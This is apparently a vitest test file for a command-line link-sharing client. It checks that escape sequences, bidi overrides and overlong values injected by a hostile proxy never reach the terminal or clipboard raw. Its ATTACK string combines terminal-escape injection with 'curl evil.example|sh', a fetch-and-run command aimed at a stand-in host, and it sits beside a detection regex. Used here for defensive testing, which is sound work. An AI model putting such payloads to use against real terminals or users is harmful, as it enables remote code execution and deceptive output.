/** Whatever a service returns, the command line prints and copies only plain text, and ends with a sane exit code. */
import { chmodSync, existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { performCommand } from '../support/command-line.ts';
import { hurriedClock } from '../support/hurried-clock.ts';
import { image } from '../support/media/media.ts';
import { itWith } from '../support/only-on.ts';
import { type HostileProxy, openHostileProxy, type Spoil } from '../support/server/hostile-proxy.ts';
import { type RunningServer, startServer, type User } from '../support/server/server.ts';
import { temporaryFolder } from '../support/temporary-folder.ts';

const root = temporaryFolder('hostile-service');
/** Title, clear, line break, C1, right-to-left override, bell. */
const ATTACK = '\u001b]0;PWNED\u0007\u001b[2J\u009b31m\u202e\r\ncurl evil.example|sh\n\u2028';
/** Only line ends and the tabs of columns may reach a terminal or the clipboard. */
const UNSAFE = /[^\P{Cc}\n\t]|\p{Bidi_Control}|[\u2028\u2029]/u;

let server: RunningServer;
let user: User;
let proxy: HostileProxy;
const bin = join(root, 'bin');
const clipboard = join(root, 'clipboard');
beforeAll(async () => {
  const limits = { requestsPerMinute: 100_000, uploadRequestsPerMinute: 100_000, partsPerMinute: 100_000 };
  server = await startServer({ config: { limits } });
  proxy = await openHostileProxy(server.url);
  mkdirSync(bin);
  writeFileSync(join(bin, 'xclip'), `#!/bin/sh\ncat > '${clipboard}'\n`);
  chmodSync(join(bin, 'xclip'), 0o755);
  vi.stubEnv('PATH', `${bin}:${process.env['PATH']}`);
  mkdirSync(join(root, 'code'));
  writeFileSync(join(root, 'code', 'main.py'), 'print(1)\n');
});
afterAll(async () => {
  vi.unstubAllEnvs();
  proxy.close();
  await server.stop();
});

const run = (words: readonly string[], profile: string, input?: string) =>
  performCommand(
    [...words, '--profile', profile, '--server', proxy.url],
    { LINKSHOT_KEY: user.apiKey, PATH: process.env['PATH'] ?? '', DISPLAY: ':0' },
    input,
    { clock: hurriedClock() },
  );

/** Fields that only users read: a response with these corrupted is otherwise valid. */
const READ_BY_PEOPLE = new Set(['title', 'originalName', 'username', 'name', 'en', 'ru', 'detail', 'bio', 'filename']);
const inTexts: Spoil = (value, path) => (READ_BY_PEOPLE.has(path.at(-1) ?? '') ? value + ATTACK : value);
const overlong: Spoil = (value, path) => (READ_BY_PEOPLE.has(path.at(-1) ?? '') ? value + 'x'.repeat(100_000) : value);
const everywhere: Spoil = (value) => value + ATTACK;
const inAddresses: Spoil = (value, path) => (path.at(-1) === 'url' ? value + ATTACK : value);
const wrongTypes: Spoil = (value, path) => (path.length > 1 ? { [value]: [null] } : value);

const expectPlain = ({ code, stdout, stderr }: { code: number | null; stdout: string; stderr: string }): void => {
  expect([0, 1, 2]).toContain(code);
  expect(stdout).not.toMatch(UNSAFE);
  expect(stderr).not.toMatch(UNSAFE);
  expect(stderr).not.toMatch(/TypeError|RangeError|\n\s+at /);
  if (existsSync(clipboard)) expect(readFileSync(clipboard, 'utf8')).not.toMatch(/[\p{Cc}\p{Bidi_Control}]/u);
};

/** A published item of a new account that the profile knows, before anything is corrupted. */
const published = async (profile: string): Promise<string> => {
  user = await server.user();
  proxy.spoil(null);
  const done = await run(['note', '-', '--json'], profile, 'a first text');
  return String(done.json()[0]?.['id']);
};

const commandsOf = async (id: string): Promise<readonly (readonly string[])[]> => [
  ['upload', await image('png'), '--copy'],
  ['folder', join(root, 'code')],
  ['list', '--sync'],
  ['list', '--json'],
  ['whoami'],
  ['status'],
  ['show', id],
  ['set', id, '--title', 'another'],
  ['edit', id, join(root, 'code', 'main.py')],
  ['link', id],
  ['link', id, '--as', 'markdown', '--copy'],
  ['set', 'nothing-of-this-id', '--title', 'x'],
  ['doctor'],
];

describe('a service that appends escapes, line breaks and overlong values', () => {
  it.each([
    ['texts for people', inTexts],
    ['texts for people, endlessly', overlong],
    ['addresses', inAddresses],
    ['everything', everywhere],
    ['everything, with other types', wrongTypes],
  ])('to %s reaches neither terminal nor clipboard raw', async (what, how) => {
    const profile = join(root, what);
    const id = await published(profile);
    proxy.spoil(how);
    const commands = await commandsOf(id);
    // Each command retries an unrecognisable service for a while.
    const isUnknown = how === everywhere || how === wrongTypes;
    for (const words of commands.filter(([name = '']) => !isUnknown || ['upload', 'whoami', 'status'].includes(name))) {
      const done = await run(words, profile);
      expectPlain(done);
      expect(done.stdout.length + done.stderr.length, words.join(' ')).toBeLessThan(200_000);
    }
    expectPlain(await run(['note', '-'], profile, 'a second text'));
  });

  itWith('programs of Linux')('still gives the plain link where only texts for people are spoilt', async () => {
    user = await server.user();
    proxy.spoil(inTexts);
    const done = await run(['upload', await image('jpeg'), '--copy'], join(root, 'plain-link'));
    expect(done).toMatchObject({ code: 0, stdout: expect.stringMatching(/^http:\/\/127\.0\.0\.1:\d+\/s\/[\w-]+\n$/) });
    expect(readFileSync(clipboard, 'utf8')).toBe(done.stdout.trim());
  });

  it('refuses a link with control characters and reports it', async () => {
    user = await server.user();
    proxy.spoil(inAddresses);
    const done = await run(['note', '-', '--json'], join(root, 'refused'), 'refused');
    expect(done.code).toBe(1);
    expect(done.json()).toMatchObject([{ error: { code: 'UNSAFE_ANSWER' } }]);
  });
});
